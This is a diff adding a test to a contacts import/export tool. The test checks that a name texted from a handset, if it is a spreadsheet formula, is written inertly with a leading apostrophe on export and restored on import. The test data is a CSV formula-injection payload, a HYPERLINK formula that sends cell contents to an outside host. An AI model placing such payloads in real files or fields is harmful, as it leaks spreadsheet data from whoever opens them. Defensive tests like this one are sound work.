@@ -173,6 +173,21 @@ def test_export_writes_what_import_reads_back(folder, database, capsys, tmp_path
     assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out
 
 
+def test_export_makes_a_formula_inert_and_import_reads_it_back(folder, database, capsys):
+    """A name a handset texted may be a spreadsheet formula: the export writes it as
+    text (a leading '), and the import reads back the name it was."""
+    formula = "=HYPERLINK('http://example.com/?'&A1)"
+    (folder / "people.csv").write_text(f"number,name\n+61400000001,{formula}\n")
+    assert run("import", "people.csv") == 0
+    assert run("export", "--output", "out.csv") == 0
+    rows = list(csv.reader(io.StringIO((folder / "out.csv").read_text())))
+    assert rows[1][:2] == ["+61400000001", "'" + formula]
+    capsys.readouterr()
+    assert run("import", "out.csv", "--update") == 0
+    assert "0 created, 0 updated, 1 unchanged" in capsys.readouterr().out
+    assert contact(database, "+61400000001").name == formula
+
+
 def test_an_import_plans_the_campaigns_of_what_it_sets(folder, database, capsys):
     (folder / "bots" / "dental.py").write_text(
         BOT
